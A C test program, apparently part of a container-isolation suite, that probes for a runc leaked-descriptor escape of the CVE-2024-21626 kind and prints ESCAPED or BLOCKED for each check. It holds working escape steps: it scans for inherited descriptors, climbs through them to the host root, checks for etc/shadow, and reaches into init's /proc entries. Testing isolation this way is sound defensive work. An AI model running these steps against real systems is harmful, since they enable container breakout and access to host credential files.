// ccx-attack: CVE-2024-21626 style: find descriptors leaked into the job, climb to the host
// ccx-category: runc
// ccx-status: ok
// ccx-steps: 5
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define FD_SCAN_MAX 4096

int main(void)
{
    struct stat st, work;
    char cwd[4096];
    char path[64];
    int leaked = 0;
    int reached = 0;

    /* The CVE left runc's cwd on a host directory: getcwd says "(unreachable)" then. */
    if (!getcwd(cwd, sizeof(cwd)) || strcmp(cwd, "/work") != 0 || stat(".", &st) < 0 ||
        stat("/work", &work) < 0 || st.st_ino != work.st_ino || st.st_dev != work.st_dev)
        printf("ESCAPED: the job starts outside its workspace\n");
    else
        printf("BLOCKED: starting cwd: it is the workspace\n");

    /* Anything open beyond 0, 1 and 2 came from the worker or from init. */
    for (int fd = 3; fd < FD_SCAN_MAX; fd++) {
        if (fcntl(fd, F_GETFD) < 0 || fstat(fd, &st) < 0)
            continue;
        leaked++;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        printf("ESCAPED: descriptor %d is open (mode 0%o)\n", fd, st.st_mode);
        int up = openat(fd, "../../../../..", O_PATH | O_DIRECTORY);
        if (up >= 0 && faccessat(up, "etc/shadow", F_OK, 0) == 0)
            reached++;
        if (chdir(path) == 0 && chdir("../../../../..") == 0 && access("etc/shadow", F_OK) == 0)
            reached++;
        chdir("/work");
    }
    if (!leaked)
        printf("BLOCKED: fcntl/fstat scan of 3..%d: no inherited descriptor\n", FD_SCAN_MAX - 1);

    /* The standard ones must not be directories we could climb from. */
    for (int fd = 0; fd < 3; fd++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY);
        if (up >= 0)
            reached++;
    }
    printf(reached ? "ESCAPED: climbed to the host's files through a descriptor\n"
                   : "BLOCKED: openat(0..2, \"..\"): none is a directory\n");

    /* init's table: its report pipe (3) must stay out of reach. */
    if (open("/proc/1/fd/3", O_WRONLY) >= 0)
        printf("ESCAPED: opened init's descriptor 3 through /proc/1/fd\n");
    else
        printf("BLOCKED: open /proc/1/fd/3: %s\n", strerror(errno));
    if (chdir("/proc/1/cwd") == 0)
        printf("ESCAPED: chdir /proc/1/cwd\n");
    else
        printf("BLOCKED: chdir /proc/1/cwd: %s\n", strerror(errno));
    return 0;
}
